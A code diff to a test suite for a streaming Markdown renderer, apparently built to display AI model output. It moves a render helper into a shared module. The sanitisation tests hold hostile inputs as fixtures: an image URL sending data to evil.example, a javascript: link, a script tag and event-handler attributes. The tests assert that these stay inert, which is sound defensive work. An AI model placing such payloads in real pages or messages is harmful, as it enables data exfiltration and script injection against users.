@@ -6,18 +6,7 @@ import commonmark from './spec/commonmark-0.31.2.json'
 import gfmExtensions from './spec/gfm-extensions.json'
 import gfm from './spec/gfm-0.29.json'
 import { StreamRenderer } from './stream-renderer'
-
-function render(pieces: readonly string[]): HTMLElement {
-  const host = document.createElement('div')
-  const renderer = new StreamRenderer(host)
-  let text = ''
-  for (const piece of pieces) {
-    text += piece
-    renderer.update(text, false)
-  }
-  renderer.update(text, true)
-  return host
-}
+import { renderPieces } from './testing/render-pieces'
 
 const kept = new Set(
   'P H1 H2 H3 H4 H5 H6 UL OL LI PRE CODE BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR EM STRONG S A IMG BR INPUT'.split(
@@ -61,7 +50,7 @@ const examples = [...commonmark.items, ...gfm.items, ...gfmExtensions.items]
 
 describe('the document is the same however the text arrives', () => {
   test.each(examples)('character by character: example $n, $section', ({ markdown }) => {
-    expect(shape(render(Array.from(markdown)))).toBe(shape(render([markdown])))
+    expect(shape(renderPieces(Array.from(markdown)))).toBe(shape(renderPieces([markdown])))
   })
 
   test('in random pieces of whole documents', () => {
@@ -79,7 +68,7 @@ describe('the document is the same however the text arrives', () => {
             pieces.push(markdown.slice(at, at + size))
             at += size
           }
-          expect(shape(render(pieces))).toBe(shape(render([markdown])))
+          expect(shape(renderPieces(pieces))).toBe(shape(renderPieces([markdown])))
         },
       ),
       { numRuns: 150 },
@@ -115,13 +104,13 @@ describe('a document means what the specifications say', () => {
   test.each(safe.filter((example) => differences[keyOf(example)] === undefined))(
     'example $n, $section',
     ({ markdown, html }) => {
-      expect(meaning(render([markdown]))).toBe(expected(html))
+      expect(meaning(renderPieces([markdown]))).toBe(expected(html))
     },
   )
 
   test('the differences are still differences', () => {
     const same = safe
-      .filter(({ markdown, html }) => meaning(render([markdown])) === expected(html))
+      .filter(({ markdown, html }) => meaning(renderPieces([markdown])) === expected(html))
       .map(keyOf)
     expect(same.filter((key) => differences[key] !== undefined)).toEqual([])
   })
@@ -129,7 +118,7 @@ describe('a document means what the specifications say', () => {
 
 describe('what a model writes can do nothing by itself', () => {
   test('no address is loaded, and only safe ones become links', () => {
-    const host = render([
+    const host = renderPieces([
       '![secret](https://evil.example/x.png?data=1) [run](javascript:alert(1)) [in](/settings) [ok](https://a.example)\n\n' +
         '[ref]: https://b.example "title"\n\n[ref] <https://c.example> ![inline](data:image/png;base64,AAAA)',
     ])
@@ -145,7 +134,9 @@ describe('what a model writes can do nothing by itself', () => {
   })
 
   test('raw HTML stays text', () => {
-    const host = render(['<script>alert(1)</script>\n\n<b onclick="x()">bold</b> and <img src=x onerror=y>'])
+    const host = renderPieces([
+      '<script>alert(1)</script>\n\n<b onclick="x()">bold</b> and <img src=x onerror=y>',
+    ])
     expect(host.querySelectorAll('script, b, img')).toHaveLength(0)
     expect(host.textContent).toContain('<b onclick="x()">bold</b>')
   })
@@ -207,7 +198,7 @@ describe('finished blocks', () => {
     renderer.update(cut, false)
     for (let end = 1; end < rest.length; end += 3) renderer.update(cut + rest.slice(0, end), false)
     renderer.update(cut + rest, true)
-    expect(shape(host)).toBe(shape(render([cut + rest])))
+    expect(shape(host)).toBe(shape(renderPieces([cut + rest])))
   })
 })
 
@@ -232,7 +223,7 @@ describe('a text that is still being written', () => {
     'Snake_case_names and 5*3 stay, so does 2 * 3.',
   ])('%j is never seen with its marks, and only grows', (text) => {
     const states = seen(text)
-    const final = render([text]).textContent ?? ''
+    const final = renderPieces([text]).textContent ?? ''
     for (const state of states) {
       expect(state).not.toMatch(/\*\*|~~|\]\(|https?:|<\/?[a-z]|&a/)
       // A trailing space may be missing for a moment.
@@ -269,7 +260,7 @@ describe('a text that is still being written', () => {
 
 describe('other languages', () => {
   test('emphasis needs no spaces between words', () => {
-    const host = render([
+    const host = renderPieces([
       '**提示：**先备份数据。\n\n他说**“你好”**就走了。\n\n**設定（任意）**を開く。\n\n**한국어(괄호)**는',
     ])
     expect([...host.querySelectorAll('strong')].map((bold) => bold.textContent)).toEqual([
@@ -282,7 +273,7 @@ describe('other languages', () => {
   })
 
   test('each block has the direction of its first word, code left out', () => {
-    const host = render([
+    const host = renderPieces([
       'English first.\n\nעברית `git push` כאן.\n\n`npm i` התקינו\n\n1. ראשון\n2. English\n\n> ציטוט\n\n| שם | ערך |\n| --- | --- |\n| exit | 80 |\n\n* مرحبا\n\n```python\nprint(1)\n```',
     ])
     const dirs = (names: string) => [...host.querySelectorAll<HTMLElement>(names)].map(({ dir }) => dir)
@@ -297,7 +288,7 @@ describe('other languages', () => {
     const source =
       '* English\n* עברית\n  1. `npm i` התקינו\n  2. then *English*\n\n> Quote\n>\n> ציטוט\n\n# 1. שלום\n\n| name | שם |\n| --- | --- |\n| 80 | עברית |\n| יציאה | 443 |\n\n> [!]\n\n1. 12\n2. مرحبا'
     for (const pieces of [[source], Array.from(source)]) {
-      const host = render(pieces)
+      const host = renderPieces(pieces)
       const dirs = (names: string) => [...host.querySelectorAll<HTMLElement>(names)].map(({ dir }) => dir)
       expect(dirs('ul, ol')).toEqual(['', 'rtl', 'rtl'])
       expect(dirs('ul > li')).toEqual(['', 'rtl'])
@@ -312,7 +303,7 @@ describe('other languages', () => {
 
 describe('a little HTML', () => {
   test('breaks lines and sets letters, in pairs and without attributes', () => {
-    const host = render([
+    const host = renderPieces([
       '| a | b |\n| - | - |\n| pack<br>drive<br/>unpack<BR /> | CO<sub>2</sub>, m<sup>2</sup>, <kbd>Esc</kbd>, <mark>**now**</mark> |',
     ])
     expect(host.querySelectorAll('td br')).toHaveLength(3)
@@ -329,7 +320,7 @@ describe('a little HTML', () => {
       '<kbd class="x">y</kbd>',
       '<iframe>',
     ]) {
-      const host = render([text])
+      const host = renderPieces([text])
       expect(host.querySelectorAll('sub, b, i, kbd, iframe')).toHaveLength(0)
       expect(host.textContent).toBe(text.replaceAll('**', ''))
     }
@@ -337,7 +328,7 @@ describe('a little HTML', () => {
 })
 
 test('a link into the model’s own computer says that it leads nowhere from here', () => {
-  const host = render(['The list is done: [get members.xlsx](sandbox:/mnt/data/members.xlsx)'])
+  const host = renderPieces(['The list is done: [get members.xlsx](sandbox:/mnt/data/members.xlsx)'])
   expect(host.querySelector('a')?.hasAttribute('href')).toBe(false)
   expect(host.textContent).toContain('not available for download')
 })
